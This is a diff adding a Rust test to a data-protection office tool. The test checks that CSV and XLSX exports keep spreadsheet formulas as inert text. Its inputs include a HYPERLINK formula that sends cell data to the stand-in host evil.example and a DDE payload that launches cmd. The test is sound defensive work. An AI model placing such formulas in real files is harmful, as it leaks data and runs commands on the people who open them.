@@ -871,3 +871,61 @@ print(json.dumps({"delimiter": dialect.delimiter, "row": dict(zip(rows[0], rows[
         "the office's choice wins: {chosen}"
     );
 }
+
+/// Text that a spreadsheet would run as a formula stays text: in the CSV it carries a
+/// leading apostrophe, in the XLSX it is a string cell (no formula element), read back by
+/// a spreadsheet engine.
+#[test]
+fn formulas_typed_into_records_never_run_when_an_export_is_opened() {
+    use dpo_desk_core::services::exports::ExportFormat;
+    let mut o = office();
+    let attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")";
+    let mut input = ActivityInput::new(o.area, attack);
+    input.purposes = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    input.responsible = "+49 30 123456".into();
+    o.desk.create_activity(&mut o.owner, &input).unwrap();
+    let csv = o
+        .desk
+        .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Csv)
+        .unwrap();
+    let text = String::from_utf8(csv.bytes).unwrap();
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(text.contains("'@SUM(1+1)"), "{text}");
+    assert!(
+        !text.contains(",=HYPERLINK")
+            && !text.contains(";=HYPERLINK")
+            && !text.contains("\"=HYPERLINK")
+    );
+    let xlsx = o
+        .desk
+        .export_activities(&mut o.owner, o.tenant, None, None, ExportFormat::Xlsx)
+        .unwrap();
+    let path = write(&o, "attack.xlsx", &xlsx.bytes);
+    let script = r#"
+import json, sys, zipfile
+from openpyxl import load_workbook
+sheet = [n for n in zipfile.ZipFile(sys.argv[1]).namelist() if n.startswith("xl/worksheets/")][0]
+xml = zipfile.ZipFile(sys.argv[1]).read(sheet).decode()
+ws = load_workbook(sys.argv[1]).active
+cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "@", "+"))]
+print(json.dumps({"formulas": xml.count("<f>") + xml.count("<f "), "texts": [[c.value, c.data_type] for c in cells]}))
+"#;
+    let out = Command::new("python3")
+        .arg("-c")
+        .arg(script)
+        .arg(&path)
+        .output()
+        .expect("python3 with openpyxl");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let seen: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(seen["formulas"], 0, "{seen}");
+    let texts = seen["texts"].as_array().unwrap();
+    assert!(
+        texts.iter().any(|t| t[0] == attack && t[1] == "s"),
+        "{seen}"
+    );
+}
